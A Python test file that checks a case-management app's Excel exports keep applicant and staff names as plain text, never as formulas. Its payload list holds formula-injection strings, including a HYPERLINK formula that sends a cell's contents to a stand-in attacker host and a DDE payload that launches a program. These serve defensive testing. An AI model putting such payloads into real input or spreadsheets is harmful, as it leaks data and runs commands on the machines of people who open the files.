"""Issue 16, finding A: what a person typed reaches a supervisor's Excel export as text, never as a
formula (CSV/formula injection). Every export goes through one helper that types each text cell."""

from __future__ import annotations

import io
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

sys.path.insert(0, str(Path(__file__).resolve().parent))
from holes_support import apply_online, make_app, signed_in  # noqa: E402

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&B2,"查看")',
    "=1+1",
    "+SUM(1,2)",
    "-2+3",
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
]


@pytest.fixture
def app(system):
    return make_app(system)


def _cells(response, column: str):
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
    header = [c.value for c in sheet[1]]
    index = header.index(column)
    return [row[index] for row in sheet.iter_rows(min_row=2)]


def test_applicant_names_that_look_like_formulas_are_exported_as_the_text_typed(app, system):
    anon = app.test_client()
    for name in PAYLOADS:
        applied = apply_online(anon, applicant_name=name)
        assert applied.status_code == 200, (name, applied.status_code)

    chief = signed_in(app, system, "zhangwei")
    for url in ("/supervise/cases.xlsx", "/supervise/ledger.xlsx"):
        cells = _cells(chief.get(url), "服务对象")
        for name in PAYLOADS:
            typed = [c for c in cells if c.value == name]
            assert typed, f"{url}: the applicant {name!r} is not in the export as typed"
            for cell in typed:
                assert cell.data_type == "s", (url, name, cell.data_type)  # text, not 'f' (formula)
        assert not [c for c in cells if c.data_type == "f"], url


def test_staff_names_that_look_like_formulas_are_exported_as_text_in_the_assessment(app, system):
    """R-5.2's export (工作考核) goes through the same helper: a name is text, whatever it starts with."""
    from sqlalchemy import update

    from bdd_workflow.db.models import Staff

    with system.db.unit_of_work() as session:
        session.execute(update(Staff).where(Staff.username == "gaohongxia").values(name=PAYLOADS[0]))
    office = signed_in(app, system, "wangxiuying")
    cells = _cells(office.get("/assessment/export.xlsx", query_string={"unit": "CA-MZ"}), "工作人员")
    typed = [c for c in cells if c.value == PAYLOADS[0]]
    assert typed and all(c.data_type == "s" for c in typed)
    assert not [c for c in cells if c.data_type == "f"]
